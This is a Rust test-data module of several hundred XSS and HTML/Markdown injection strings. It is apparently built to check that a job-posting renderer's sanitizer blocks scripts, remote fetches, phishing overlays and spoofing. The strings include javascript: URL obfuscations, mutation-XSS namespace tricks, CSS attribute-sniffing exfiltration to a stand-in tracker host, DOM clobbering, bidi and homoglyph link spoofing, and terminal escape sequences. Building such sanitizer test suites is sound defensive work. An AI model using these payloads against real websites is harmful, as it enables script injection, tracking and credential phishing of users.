//! Texts that want to do harm when they are shown, by family. Pure data: whoever shows postings can test with it.
//!
//! Each is the text of a posting. None may run, fetch, frame, style, post or leave the page, and none may look like a part of the
//! program. `%` in a pattern stands for what it is combined with.

/// Where they would report to, if they could.
const BAIT: &str = "https://tracker.example/x";

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Vector {
    pub family: &'static str,
    pub bytes: Vec<u8>,
}

pub fn vectors() -> Vec<Vector> {
    let families: [(&'static str, Vec<String>); 9] = [
        ("handler", handlers()),
        ("link", links()),
        ("scheme", schemes()),
        ("remote", remote()),
        ("foreign", texts(FOREIGN)),
        ("style", texts(STYLE)),
        ("page", texts(PAGE)),
        ("markdown", texts(MARKDOWN)),
        ("invisible", texts(INVISIBLE)),
    ];
    let written = families
        .into_iter()
        .flat_map(|(family, texts)| texts.into_iter().map(move |text| Vector { family, bytes: text.into_bytes() }));
    let broken = BROKEN.iter().map(|bytes| Vector { family: "broken", bytes: bytes.to_vec() });
    written.chain(broken).collect()
}

fn texts(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| text.replace('%', BAIT)).collect()
}

/// Elements that can carry a handler: allowed ones, dropped ones, unknown ones.
const CARRIERS: &[&str] = &[
    "a",
    "abbr",
    "audio",
    "b",
    "body",
    "button",
    "custom-element",
    "details",
    "div",
    "form",
    "iframe",
    "img",
    "input",
    "li",
    "mark",
    "marquee",
    "object",
    "ol",
    "p",
    "select",
    "span",
    "summary",
    "svg",
    "table",
    "td",
    "textarea",
    "video",
];

const HANDLERS: &[&str] = &[
    "onclick",
    "onerror",
    "onload",
    "onfocus autofocus",
    "onmouseover",
    "ontoggle open",
    "onanimationstart",
    "onpointerenter",
];

/// Ways to write an attribute that browsers understand.
const WRITINGS: &[&str] = &[
    "<% #=\"alert(1)\">x</%>",
    "<% #='alert(1)'>x</%>",
    "<% #=alert(1)>x",
    "<%/#=alert(1)/>x",
    "<%\n#\n=\nalert(1)\n>x</%>",
    "<% #=&#97;lert(1)>x</%>",
    "<% x=\"'>\" #=\"alert(1)\">x</%>",
    "</%><% x #=alert(1) x>x",
];

/// Every element with every handler, the writings in turn; and every element in capitals once.
fn handlers() -> Vec<String> {
    let mut found = Vec::new();
    let mut writings = WRITINGS.iter().cycle();
    for carrier in CARRIERS {
        for (handler, writing) in HANDLERS.iter().zip(writings.by_ref()) {
            found.push(writing.replace('%', carrier).replace('#', handler));
        }
        writings.next();
        found.push(format!("<{} OnClIcK=alert(1)>x", carrier.to_uppercase()));
    }
    found
}

/// Targets that are no places to go.
const TARGETS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#1;javascript:alert(1)",
    "&#8203;javascript:alert(1)",
    "%6aavascript:alert(1)",
    "\u{a0}javascript:alert(1)",
    "javascript\u{200b}:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://tracker.example/1",
    "file:///etc/passwd",
    "filesystem:https://tracker.example/x",
    "view-source:https://tracker.example",
    "about:blank",
    "tauri://localhost/index.html",
    "asset://localhost/etc/passwd",
    "ipc://localhost/call",
    "ms-settings:privacy",
    "smb://tracker.example/share",
    "\\\\tracker.example\\share",
    "//tracker.example/x",
    "ht&#9;tp://tracker.example/x",
    "&#1;&#32;http://tracker.example/x&#10;",
    "/\\tracker.example",
    "#fragment",
    "?query",
    "index.html",
    "https:\\\\tracker.example\" onclick=\"alert(1)",
    "mailto:a@example.org?attach=/etc/passwd",
    "mailto:a@example.org&quot; onclick=&quot;alert(1)",
];

fn links() -> Vec<String> {
    let mut found = Vec::new();
    for target in TARGETS {
        found.push(format!("[lien]({target})"));
        found.push(format!("<a href=\"{target}\">lien</a>"));
        found.push(format!("<a href='{target}' target=_blank download ping={BAIT}>lien</a>"));
        found.push(format!("[lien][r]\n\n[r]: <{target}> \"titre\""));
    }
    found
}

/// Elements and attributes that lead or load, besides `a`.
const LEADING: &[&str] = &[
    "<img src=\"%\">",
    "![image](%)",
    "<area href=\"%\">",
    "<form action=\"%\"><button>x</button></form>",
    "<button formaction=\"%\">x</button>",
    "<iframe src=\"%\"></iframe>",
    "<svg><a xlink:href=\"%\"><text>x</text></a></svg>",
    "<math href=\"%\">x</math>",
    "<blockquote cite=\"%\">x</blockquote>",
    "<object data=\"%\"></object>",
];

fn schemes() -> Vec<String> {
    let targets =
        ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "JAVASCRIPT&#x3a;alert(1)", "tauri://localhost/x"];
    LEADING.iter().flat_map(|leading| targets.map(|target| leading.replace('%', target))).collect()
}

/// Attributes by which an element fetches something as soon as it is shown.
const FETCHING: &[(&str, &[&str])] = &[
    ("img", &["src", "srcset", "lowsrc", "dynsrc", "longdesc", "data-src", "loading=eager src"]),
    ("audio", &["src", "autoplay src"]),
    ("video", &["src", "poster", "autoplay src"]),
    ("source", &["src", "srcset"]),
    ("track", &["src"]),
    ("embed", &["src"]),
    ("object", &["data", "codebase", "classid"]),
    ("applet", &["archive", "code"]),
    ("input", &["type=image src"]),
    ("link", &["rel=stylesheet href", "rel=preload href", "rel=icon href", "rel=import href", "rel=dns-prefetch href"]),
    ("body", &["background"]),
    ("table", &["background"]),
    ("td", &["background"]),
    ("script", &["src", "type=module src", "defer src"]),
    ("iframe", &["src", "srcdoc", "sandbox src"]),
    ("frame", &["src"]),
    ("a", &["ping", "attributionsrc"]),
    ("image", &["xlink:href", "src"]),
    ("use", &["href", "xlink:href"]),
    ("feimage", &["href"]),
    ("portal", &["src"]),
    ("bgsound", &["src"]),
    ("layer", &["src"]),
    ("html", &["manifest"]),
];

fn remote() -> Vec<String> {
    let mut found = Vec::new();
    for (element, attributes) in FETCHING {
        for attribute in *attributes {
            found.push(format!("<{element} {attribute}=\"{BAIT}\">"));
            found.push(format!("Bonjour\n\n<div><{element} {attribute}={BAIT}></{element}></div>"));
        }
    }
    found
}

/// Other namespaces, and text that is parsed twice in two ways.
const FOREIGN: &[&str] = &[
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=\"%\"/></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x\"/></svg>",
    "<svg><style>@import url(%);</style></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><title><a title=\"</title><img src onerror=alert(1)>\">",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<svg><image href=\"%\"/></svg>",
    "<svg><feImage href=\"%\"/></svg>",
    "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=load>alert(1)</handler></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><maction actiontype=statusline#% xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><p><style><img src=x onerror=alert(1)></style></p></annotation-xml></math>",
    "<math><annotation-xml encoding=\"text/html\"><svg><script>alert(1)</script></svg></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><a title=\"</noframes><script>alert(1)</script>\">",
    "<iframe><!-- </iframe><img src=x onerror=alert(1)> -->",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><script>alert(1)</script></title>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><svg><style></table><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!doctype html><script>alert(1)</script>",
    "<![if IE]><script>alert(1)</script><![endif]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><x/>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<a href=\"https://example.org\"><svg><a xlink:href=\"javascript:alert(1)\">x</a></svg></a>",
    "<p><svg><p><style><g title=\"</style><img src onerror=alert(1)>\">",
    "<b><noscript><b></noscript><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\u{c}>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<\u{0}script>alert(1)</script>",
    "<scrıpt>alert(1)</scrıpt>",
    "<ſcript>alert(1)</ſcript>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
];

const STYLE: &[&str] = &[
    "<style>body{background:url(%)}</style>",
    "<style>@import url(%);</style>",
    "<style>@import '%';</style>",
    "<style>@font-face{font-family:x;src:url(%)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(%)}</style>",
    "<style>article::before{content:url(%)}</style>",
    "<style>:root{--x:url(%)}p{background:var(--x)}</style>",
    "<style media=print>p{display:none}</style>",
    "<STYLE type=text/css>p{color:red}</STYLE>",
    "<link rel=stylesheet href=data:text/css,*%7bdisplay:none%7d>",
    "<div style=\"background:url(%)\">x</div>",
    "<div style='background-image:\\75rl(%)'>x</div>",
    "<p style=\"position:fixed;inset:0;z-index:9999;background:#fff\">Votre session a expiré</p>",
    "<span style=\"behavior:url(#default#time2)\">x</span>",
    "<b style=\"-moz-binding:url(%#x)\">x</b>",
    "<i style=\"width:expression(alert(1))\">x</i>",
    "<u style=\"list-style-image:url(%)\">x</u>",
    "<li style=\"cursor:url(%),auto\">x</li>",
    "<td style=\"filter:url(%#f)\">x</td>",
    "<a style=\"position:absolute;inset:0\" href=\"%\">x</a>",
    "<div class=\"dialog modal\" id=app>x</div>",
    "<div hidden>x</div><div aria-hidden=true role=alert>y</div>",
    "<font color=red size=7 face=\"x\">x</font>",
    "<center><marquee behavior=alternate bgcolor=red>x</marquee></center>",
    "<ol type=a start=\"1;background:url(%)\"><li>x</li></ol>",
    "<ol start='\"><img src=x onerror=alert(1)>'><li>x</li></ol>",
    "<p dir=rtl lang=ar translate=no>x</p>",
    "<details open style=\"all:unset\"><summary>x</summary>y</details>",
];

/// What would act on the page or the program around.
const PAGE: &[&str] = &[
    "<meta http-equiv=refresh content=\"0;url=%\">",
    "<meta http-equiv=\"refresh\" content=\"0;javascript:alert(1)\">",
    "<meta http-equiv=Set-Cookie content=\"x=y\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta name=referrer content=unsafe-url>",
    "<base href=\"%/\">",
    "<base target=_top><a href=x>x</a>",
    "<form action=\"%\"><input name=mot-de-passe type=password><button>Se connecter</button></form>",
    "<form id=x></form><button form=x formaction=\"%\">x</button>",
    "<input type=file><input type=hidden value=x>",
    "<select><option>x</option></select><textarea>y</textarea><keygen>",
    "<isindex action=\"%\" prompt=x>",
    "<iframe src=\"%\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    "<frameset><frame src=\"%\"></frameset>",
    "<object data=\"%\" type=text/html></object>",
    "<object><param name=movie value=\"%\"></object>",
    "<embed src=\"%\" allowscriptaccess=always>",
    "<applet code=x codebase=\"%\"></applet>",
    "<script>fetch('%')</script>",
    "<script type=module>import '%'</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"%\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"%\"]}]}</script>",
    "<body onload=alert(1) onpageshow=alert(2)>",
    "</article></main></div><h1>Vivier</h1>",
    "</body></html><script>alert(1)</script>",
    "<html><head><title>x</title></head><body bgcolor=red>x</body></html>",
    "<dialog open>Vivier a besoin de votre mot de passe</dialog>",
    "<div popover id=x>x</div><button popovertarget=x>y</button>",
    "<a id=location name=document href=\"https://example.org\">x</a>",
    "<img name=getElementById><form name=body><input name=children></form>",
    "<a href=\"https://example.org\" target=_top rel=opener>x</a>",
    "<label for=x>x</label><map name=x><area href=\"%\"></map><img usemap=#x>",
    "<canvas id=x></canvas><slot name=x></slot><output>x</output>",
    "<div contenteditable autofocus tabindex=1 accesskey=k draggable=true>x</div>",
    "<mark data-source=\"subject\">faux</mark>",
    "<mark data-source=\"contact:0\" class=active tabindex=0>faux@example.org</mark>",
    "<p is=\"x-frame\" part=y slot=z nonce=1 integrity=2 itemscope itemid=\"%\">x</p>",
    "<svg/onload=alert(1)><p>x",
    "<image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<table background=\"%\"><tr><td background=\"%\">x</td></tr></table>",
    "<ruby><rt><script>alert(1)</script></rt></ruby>",
    "<nextid n=\"</nextid><script>alert(1)</script>\">",
    "<wbr><bdo dir=rtl>x</bdo><time datetime=\"%\">x</time>",
    "<q cite=javascript:alert(1)>x</q><ins cite=\"%\">y</ins>",
];

/// What only becomes HTML through Markdown.
const MARKDOWN: &[&str] = &[
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<JAVASCRIPT:alert(1)>",
    "<https://example.org\" onclick=alert(1)>",
    "<mailto:a@example.org?attach=/etc/passwd>",
    "<a@example.org\" onmouseover=alert(1)>",
    "[x](<javascript:alert(1)>)",
    "[x](javascript:alert\\(1\\))",
    "[x](java\nscript:alert(1))",
    "[x]( javascript:alert(1) \"titre\")",
    "[x](https://example.org \"titre\" onclick=\"alert(1)\")",
    "[x](https://example.org \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://example.org 'a\" onclick=\"alert(1)')",
    "[x](https://example.org \"&quot; onclick=&quot;alert(1)\")",
    "[x](https://example.org/\"onclick=\"alert(1))",
    "[x](https://example.org/<script>alert(1)</script>)",
    "[<script>alert(1)</script>](https://example.org)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "![x](%)",
    "![x](% \"titre\")",
    "![x\" onerror=\"alert(1)](%)",
    "![<img src=x onerror=alert(1)>](%)",
    "![x][i]\n\n[i]: %",
    "[x]: javascript:alert(1)\n\n[x] et [x][] et [y][x]",
    "[x]: <data:text/html,<script>alert(1)</script>>\n\n[x]",
    "[x]: https://example.org '\" onclick=\"alert(1)'\n\n[x]",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onclick=alert(1)\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "~~~ <img src=x onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>\n",
    "`<script>alert(1)</script>`",
    "`` ` `` <script>alert(1)</script> `` ` ``",
    "# <img src=x onerror=alert(1)>\n",
    "# Titre {#x onclick=alert(1)}\n",
    "> <script>\n> alert(1)\n> </script>",
    "- <script>\n- alert(1)\n- </script>",
    "1. <style>\n2. p{background:url(%)}\n3. </style>",
    "| <script> | alert(1) |\n|---|---|\n| </script> | <img src=x onerror=alert(1)> |",
    "|a\" onclick=\"alert(1)|\n|:-:|\n|x|",
    "\\<script>alert(1)\\</script>",
    "\\\\<script>alert(1)</script>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<div\nonclick=alert(1)\n>x</div>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<div title=\"\n\n\" onclick=alert(1)>x",
    "<div><a title=\"\n\n\" href=javascript:alert(1)>x",
    "<b title='\n\n`' onmouseover=alert(1) x='`'>x",
    "<!-- \n\n--> <script>alert(1)</script>",
    "<!-- `--><script>alert(1)</script>` -->",
    "<?x\n\n?><script>alert(1)</script>",
    "<![CDATA[\n\n]]><script>alert(1)</script>",
    "<script>\n\nalert(1)\n\n</script>",
    "<style>\n\n* { background: url(%) }\n\n</style>",
    "**<b onclick=alert(1)>**x</b>",
    "*[x*](javascript:alert(1))",
    "~~<s onclick=alert(1)>~~",
    "[a](https://example.org)[b](javascript:alert(1))[c](https://example.org)",
    "http://example.org/<script>alert(1)</script>",
    "www.example.org\" onclick=\"alert(1)",
    "---\ntitle: \"<script>alert(1)</script>\"\ncontact: \"a@example.org\\\"><img src=x onerror=alert(1)>\"\n---\nx",
    "---\n\"<img src=x onerror=alert(1)>\": y\nurl: javascript:alert(1)\n---\n[x](javascript:alert(1))",
    "---\ntitle: x\n---\n# <svg onload=alert(1)>\n\n## Postuler\n\nÀ [a@example.org](mailto:a@example.org?subject=%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
];

/// Characters that show a text as another than it is, or not at all.
const INVISIBLE: &[&str] = &[
    "\u{202e}gro.elpmaxe@a\u{202c}",
    "[\u{202e}gro.elpmaxe\u{202c}](%)",
    "a@exa\u{200b}mple.org",
    "a@exa\u{ad}mple.org",
    "a\u{2060}@example.org",
    "\u{feff}<script>alert(1)</script>",
    "<scr\u{200b}ipt>alert(1)</scr\u{200b}ipt>",
    "<\u{200d}script>alert(1)</script>",
    "<a\u{a0}href=javascript:alert(1)>x</a>",
    "<a\u{2028}onclick=alert(1)>x</a>",
    "<a href=\"java\u{200c}script:alert(1)\">x</a>",
    "<a href=\"https://xn--exmple-cua.org\">example.org</a>",
    "<a href=\"https://еxample.org\">example.org</a>",
    "[example.org](https://example.org@tracker.example)",
    "[example.org](https://tracker.example/\u{2044}example.org)",
    "\u{2066}\u{2067}\u{2068}x\u{2069}\u{2069}\u{2069}",
    "x\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}",
    "\u{e0041}\u{e0042}\u{e0043}",
    "\u{fdd0}\u{fffe}\u{10ffff}",
    "\u{100001}faux\u{100000} \u{f0001}faux\u{f0000}",
    "\u{1b}]52;c;aGk=\u{7} \u{9b}31m",
    "x\u{8}\u{8}\u{7f}\u{85}\u{2028}\u{2029}y",
    "\u{0}<script>alert(1)</script>\u{0}",
    "＜script＞alert(1)＜/script＞",
    "﹤img src=x onerror=alert(1)﹥",
    "ʺ onclick=alert(1) ʺ",
];

/// Bytes that are no text, or another than they seem.
const BROKEN: &[&[u8]] = &[
    b"\xff<script>alert(1)</script>",
    b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    b"\xe0\x80\xbcscript>alert(1)</script>",
    b"\xf0\x80\x80\xbcscript>alert(1)</script>",
    b"\xc3<script>alert(1)</script>",
    b"\xe2\x82<img src=x onerror=alert(1)>",
    b"\xf0\x9f<svg onload=alert(1)>",
    b"<a title='\xc3' onclick=alert(1)>x</a>",
    b"<a title=\"\xe2\x80\" onclick=alert(1)>x</a>",
    b"\xed\xa0\x80<script>alert(1)</script>\xed\xb0\x80",
    b"\xfe\xff\0<\0s\0c\0r\0i\0p\0t\0>\0a\0l\0e\0r\0t\0(\0\x31\0)",
    b"\xff\xfe<\0i\0m\0g\0 \0o\0n\0e\0r\0r\0o\0r\0=\0x\0>\0",
    b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    b"\x1b$B<script>alert(1)</script>\x1b(B",
    b"\x82\xa0<script>alert(1)</script>",
    b"\xa4\xb3<img src=x onerror=alert(1)>",
    b"\xef\xbb\xbf<svg onload=alert(1)>",
    b"\x93<script>alert(1)</script>\x94",
    b"\x80\x81\x8d\x8f\x90\x9d<script>alert(1)</script>",
    b"\xc2<\xa0script>alert(1)</script>",
];
